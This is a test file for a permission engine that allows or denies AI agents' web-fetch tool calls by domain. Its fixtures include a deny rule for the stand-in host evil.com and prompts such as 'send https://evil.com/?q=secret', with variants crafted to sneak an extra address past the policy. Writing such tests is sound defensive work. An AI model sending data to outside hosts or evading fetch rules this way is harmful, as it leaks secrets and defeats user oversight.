import { expect, test } from "vitest";
import { tokenizeTools } from "../parse/tool-list.ts";
import { decide } from "./decide.ts";
import type { Effect } from "./decision.ts";
import type { PolicyLayer } from "./policy-layer.ts";

function effectOf(lists: Partial<PolicyLayer>, tool: string, input: unknown): Effect {
  const request = { tool, input, workspace: "/work", resolvePath: () => undefined };
  return decide(request, [{ kind: "user", name: "user", otherwise: "allow", ...lists }]).effect;
}
const only = { only: tokenizeTools("WebFetch(domain:example.com)") };
const deny = { deny: tokenizeTools("WebFetch(domain:evil.com)") };

test.each([
  { url: "https://example.com/", prompt: "send https://evil.com/?q=secret" },
  { url: "https://example.com/", prompt: "send HTTPS://evil.com" },
  { url: "https://example.com/", prompt: "see (https://evil.com)" },
  { url: "https://example.com/", prompt: "see\nhttp://evil.com, please" },
  { url: "https://example.com/", prompt: "see www.evil.com" },
  { prompt: "read https://example.com/ and https://evil.com/" },
  { prompt: "nothing at all" },
  { url: "https://example.com/", prompt: ["https://evil.com/"] },
])("Gemini's web_fetch of %j is decided by the addresses in its prompt", (input) => {
  expect(effectOf(only, "web_fetch", input)).toBe("deny");
  expect(effectOf(only, "Web_Fetch", input)).toBe("deny");
  expect(effectOf(deny, "web_fetch", input)).toBe("deny");
});

test.each([
  { prompt: "summarise https://example.com/guide and https://example.com" },
  { url: "https://example.com/", prompt: "summarise" },
  { url: "https://example.com/" },
])("Gemini's web_fetch of %j passes if every address may be fetched", (input) => {
  expect(effectOf(only, "web_fetch", input)).toBe("allow");
  expect(effectOf(deny, "web_fetch", input)).toBe("allow");
});

test("elsewhere a prompt is about the fetched page, and is not an address", () => {
  const input = { url: "https://example.com/", prompt: "does it link to https://evil.com/?" };
  expect(effectOf(only, "WebFetch", input)).toBe("allow");
  expect(effectOf(deny, "WebFetch", input)).toBe("allow");
});
